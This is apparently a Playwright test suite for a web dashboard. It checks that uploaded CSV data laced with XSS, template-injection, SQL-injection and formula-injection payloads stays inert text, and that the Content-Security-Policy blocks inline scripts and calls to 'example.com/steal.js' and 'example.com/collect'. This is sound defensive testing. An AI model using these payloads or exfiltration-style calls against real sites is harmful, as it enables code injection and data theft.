import fs from 'node:fs';
import { PRERENDER_GATE_SCRIPT } from '../../scripts/prerenderGate';
import { ENGINE_TIMEOUT, expect, test, waitForDashboard, waitForEngineLive, openView, chooseUpload, VIEW_TABS } from './fixtures';

/**
 * A CSV whose headers and values are attacks: markup with handlers, template syntax, javascript: links, SQL, a
 * right-to-left override, a very long string. Two dimensions and a measure, by month.
 */
const PAYLOADS = [
  '<img src=x onerror="window.__pwned=1">',
  '<script>window.__pwned=2</script>',
  '{{constructor.constructor("window.__pwned=3")()}}',
  'javascript:window.__pwned=4',
  "'); DROP TABLE market_monthly; --",
  '\u202Egnp.exe',
  `<svg onload="window.__pwned=5">${'x'.repeat(300)}`,
];
const HOSTILE_CSV = [
  `month,"<b onmouseover=""window.__pwned=6"">shop</b>","country",orders`,
  ...PAYLOADS.flatMap((payload, index) => [
    `2024-0${(index % 6) + 1},"${payload.replaceAll('"', '""')}",RU,${10 + index}`,
    `2024-0${(index % 6) + 1},"${payload.replaceAll('"', '""')}",MX,${5 + index}`,
  ]),
].join('\n');

test('a CSV full of script payloads is inert text in every view, and the data tables show it as written', async ({ guarded: page }) => {
  await page.addInitScript(() => {
    (window as unknown as { __pwned?: number }).__pwned = undefined;
  });
  await page.goto('/');
  await waitForDashboard(page);
  await chooseUpload(page, '<img src=x onerror=alert(1)>.csv', HOSTILE_CSV);
  const form = page.getByTestId('upload-form');
  await expect(form.getByTestId('upload-preview')).toContainText('<img src=x onerror="window.__pwned=1">');
  await form.getByTestId('role-1').selectOption('dimension');
  await form.getByTestId('upload-name').fill('<i>Hostile</i>');
  await form.getByTestId('upload-load').click();
  await expect(page.getByTestId('upload-report')).toContainText(`${PAYLOADS.length * 2} of ${PAYLOADS.length * 2} rows loaded`);
  await page.getByTestId('upload-report').getByTestId('upload-open').click();
  await expect(page.getByTestId('kpi-total')).toBeVisible();

  for (const tab of VIEW_TABS) {
    await openView(page, tab);
    await expect(page.locator('[aria-busy=true]')).toHaveCount(0, { timeout: ENGINE_TIMEOUT });
    // Hover the charts, so that tooltips render the members too. A mark can be redrawn between being listed and
    // being hovered (a locator from all() is by position): a hover that finds nothing within 2 s is skipped, not
    // waited on for the rest of the test's time.
    const marks = page.getByTestId(`view-${tab}`).locator('.recharts-bar-rectangle, .recharts-dot');
    for (const mark of (await marks.all()).slice(0, 3)) {
      await mark.hover({ force: true, timeout: 2_000 }).catch(() => {});
    }
    // And show every panel's numbers as a table (by keyboard, like the views: a click can miss while panels resize).
    for (let guard = 0; guard < 5 && (await page.getByRole('button', { name: 'Show table' }).count()) > 0; guard++) {
      await page.getByRole('button', { name: 'Show table' }).first().press('Enter');
    }
    await expect(page.locator('[aria-busy=true]')).toHaveCount(0, { timeout: ENGINE_TIMEOUT });
  }
  // The payloads are on the page as text…
  await openView(page, 'overview');
  await expect(page.getByTestId('view-overview')).toContainText('<img src=x onerror="window.__pwned=1">'.slice(0, 20));
  // …never as elements, and nothing ran.
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(await page.locator('img[src=x], svg[onload], b[onmouseover]').count()).toBe(0);
  // The only inline script is index.html's own, the one the CSP allows by its hash (scripts/prerenderGate.ts).
  expect(await page.locator('script:not([src])').evaluateAll((scripts) => scripts.map((script) => script.textContent))).toEqual([
    PRERENDER_GATE_SCRIPT,
  ]);
  await expect(page.getByTestId('filter-dataset')).toContainText('<i>Hostile</i>');

  // The exports carry the payloads as text: escaped in the SVG, neutralised in the CSV.
  const trend = page.getByTestId('trend-panel');
  const [svgFile] = await Promise.all([page.waitForEvent('download'), trend.getByTestId('export-svg').click()]);
  const svg = fs.readFileSync((await svgFile.path())!, 'utf8');
  expect(svg).not.toMatch(/<(img|script|b|svg onload)[\s>]/);
  expect(svg).toContain('&lt;img src=x onerror=');
  const [csvFile] = await Promise.all([page.waitForEvent('download'), trend.getByTestId('export-csv').click()]);
  const csv = fs.readFileSync((await csvFile.path())!, 'utf8');
  expect(csv).toContain(",'); DROP TABLE market_monthly; --,");
  expect(csv.split('\n')[0]).not.toMatch(/(^|,)[=+@-]/);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();

  // Pinned to a dashboard named like an attack, presented, and saved as one HTML file: still only text.
  await page.getByTestId('pin-view').click();
  await page.getByTestId('open-dashboards').click();
  await page.getByTestId('dashboard-editor').first().getByTestId('dashboard-name').fill('<img src=x onerror="window.__pwned=7">');
  await page.getByTestId('dashboard-editor').first().getByTestId('dashboard-present').click();
  const presentation = page.getByTestId('presentation');
  await expect(presentation.locator('.presentation-header h2')).toHaveText('<img src=x onerror="window.__pwned=7">');
  await expect(presentation.locator('[data-testid=trend-chart] .recharts-line').first()).toBeAttached();
  await expect(page.locator('[aria-busy=true]')).toHaveCount(0, { timeout: ENGINE_TIMEOUT });
  const [htmlFile] = await Promise.all([page.waitForEvent('download'), page.getByTestId('presentation-html').click()]);
  const html = fs.readFileSync((await htmlFile.path())!, 'utf8');
  expect(html).not.toMatch(/<(img|script|b|i)[\s>]/i);
  expect(html).not.toMatch(/<svg onload/i);
  expect(html).toContain('&#60;img src=x onerror=');
  const viewer = await page.context().newPage();
  await viewer.setContent(html);
  expect(await viewer.locator('img, script').count()).toBe(0);
  expect(await viewer.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(await page.locator('img[src=x], svg[onload], b[onmouseover]').count()).toBe(0);
  // The only inline script is index.html's own, the one the CSP allows by its hash (scripts/prerenderGate.ts).
  expect(await page.locator('script:not([src])').evaluateAll((scripts) => scripts.map((script) => script.textContent))).toEqual([
    PRERENDER_GATE_SCRIPT,
  ]);
});

test('the Content-Security-Policy is served and enforced: no inline script, no script or connection elsewhere', async ({ page, request }) => {
  const response = await request.get('/');
  const policy = response.headers()['content-security-policy'] ?? '';
  expect(policy).toContain("script-src 'self' 'wasm-unsafe-eval'");
  expect(policy).toContain("connect-src 'self'");
  expect(policy).toContain("frame-ancestors 'none'");
  // The engine's worker is a same-origin script: no blob: worker is allowed.
  expect(policy).toMatch(/worker-src 'self'(;|$)/);
  expect(policy).toContain("require-trusted-types-for 'script'");
  expect(policy).toContain('trusted-types marketscope-engine marketscope-worker');
  // The meta tag carries the same policy, but for what a <meta> cannot carry.
  const html = await response.text();
  const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1];
  expect(meta).toBeDefined();
  expect(`${meta}; frame-ancestors 'none'`).toBe(policy);
  // The engine's worker scripts (the shim and DuckDB's) are served under the same policy.
  const workers = fs.readdirSync(`${process.env.E2E_DIST ?? 'dist'}/assets`).filter((name) => /worker.*\.js$|Shim.*\.js$/i.test(name));
  expect(workers.length).toBeGreaterThan(2);
  for (const worker of workers) {
    const served = await request.get(`/assets/${worker}`);
    expect(served.headers()['content-security-policy'], worker).toBe(policy);
  }

  const violations: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error') violations.push(message.text());
  });
  await page.goto('/');
  await waitForDashboard(page);
  // The engine started under that policy, its worker included (Trusted Types for the worker's script URLs).
  await waitForEngineLive(page);
  expect(violations).toEqual([]);
  const outcome = await page.evaluate(async () => {
    /** Runs an injection; Trusted Types refuse a string at the sink itself (a TypeError), CSP refuses it later. */
    const attempt = (inject: () => void): string => {
      try {
        inject();
        return 'accepted';
      } catch (error) {
        return error instanceof TypeError ? 'refused' : `threw ${String(error)}`;
      }
    };
    const inline = attempt(() => {
      const script = document.createElement('script');
      script.textContent = 'window.__pwned = "inline"';
      document.head.append(script);
    });
    const markup = attempt(() => {
      document.createElement('div').innerHTML = '<img src=x onerror="window.__pwned = \'markup\'">';
    });
    const worker = attempt(() => new Worker('data:text/javascript,postMessage(1)'));
    // A script from elsewhere (what an injected <script src> would be).
    const external = await new Promise<string>((resolve) => {
      const outcome = attempt(() => {
        const element = document.createElement('script');
        element.onload = () => resolve('loaded');
        element.onerror = () => resolve('blocked');
        element.src = 'https://example.com/steal.js';
        document.head.append(element);
      });
      if (outcome !== 'accepted') resolve(outcome);
    });
    const fetched = await fetch('https://example.com/collect', { method: 'POST', body: 'data' }).then(
      () => 'sent',
      () => 'blocked',
    );
    await new Promise((resolve) => setTimeout(resolve, 100));
    return { pwned: (window as unknown as { __pwned?: string }).__pwned ?? null, inline, markup, worker, external, fetched };
  });
  expect(outcome).toEqual({ pwned: null, inline: 'refused', markup: 'refused', worker: 'refused', external: 'refused', fetched: 'blocked' });
  expect(violations.some((text) => /Content Security Policy|Trusted Type/.test(text))).toBe(true);
});
